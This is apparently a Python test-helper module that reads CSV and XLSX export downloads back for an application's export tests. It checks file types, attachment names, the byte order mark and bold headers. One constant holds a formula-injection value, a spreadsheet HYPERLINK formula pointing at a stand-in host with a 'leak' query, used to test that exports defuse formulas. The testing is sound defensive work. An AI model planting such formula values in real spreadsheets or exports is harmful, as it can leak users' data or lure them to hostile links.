"""Readers of the export downloads, for the export tests of every app: the CSV as rows of
text (its byte order mark checked and removed), the XLSX as its sheet, opened back."""

import csv
import io

from openpyxl import load_workbook

from accounts.exports import BOM, CSV_TYPE, XLSX_TYPE

#: A school name that a spreadsheet would run as a formula.
EVIL = '=HYPERLINK("http://x.example/?leak","Click")'


def _attachment(response, extension):
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert disposition.endswith(f'.{extension}"')


def csv_rows(response) -> list[list[str]]:
    """The rows of a CSV download, after checking its type, name and byte order mark."""
    assert response["Content-Type"] == CSV_TYPE
    _attachment(response, "csv")
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_sheet(response):
    """The sheet of an XLSX download, opened back with openpyxl."""
    assert response["Content-Type"] == XLSX_TYPE
    _attachment(response, "xlsx")
    return load_workbook(io.BytesIO(response.content)).active


def xlsx_rows(response) -> list[list]:
    """The values of an XLSX download's sheet, with its header checked to be bold."""
    sheet = xlsx_sheet(response)
    assert all(cell.font.bold for cell in sheet[1])
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def column(rows, header) -> list:
    """The values of the column named `header`, without the header row."""
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]
